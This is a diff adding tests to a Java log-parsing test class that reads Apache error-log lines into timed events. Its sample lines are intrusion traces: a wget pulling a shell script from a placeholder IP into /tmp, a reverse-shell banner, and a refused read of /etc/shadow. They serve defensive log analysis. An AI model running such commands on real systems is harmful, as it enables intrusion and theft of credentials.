@@ -108,7 +108,22 @@ class ServerComplaintsTest {
     assertThat(wget.fields()).containsEntry(Field.COMMAND, "wget http://198.51.100.9/x.sh");
     assertThat(Reads.time(wget)).isEqualTo("2026-11-22T03:11:12Z");
     assertThat(reads.events("Saving to: 'x.sh'")).isEmpty();
+    assertThat(reads.readings()).endsWith(Reading.SILENT);
+    assertThat(reads.event("2026-11-22 03:11:13 (1.2 MB/s) - ‘/tmp/x.sh’ saved [812/812]").fields())
+        .containsEntry(Field.FILE, "/tmp/x.sh");
+    assertThat(reads.events("Nothing that is known")).isEmpty();
     assertThat(reads.readings()).endsWith(Reading.UNREADABLE);
+  }
+
+  @Test
+  void whatProgramsComplainOfTakesTheTimeOfTheMessageBefore() {
+    Reads reads = Reads.by("apache-error", ErrorFormats.all());
+
+    assertThat(reads.event("bash: no job control in this shell").timed()).isFalse();
+    reads.event(TIME + "[core:error] [pid 9] [client ::1] File does not exist: /var/www/a");
+    Event refused = reads.event("cat: /etc/shadow: Permission denied");
+    assertThat(Reads.time(refused)).isEqualTo(Reads.time(apache("[core:error] [pid 9] x")));
+    assertThat(refused.fields()).containsEntry(Field.PROCESS, "cat");
   }
 
   private static Event apache(String line) {
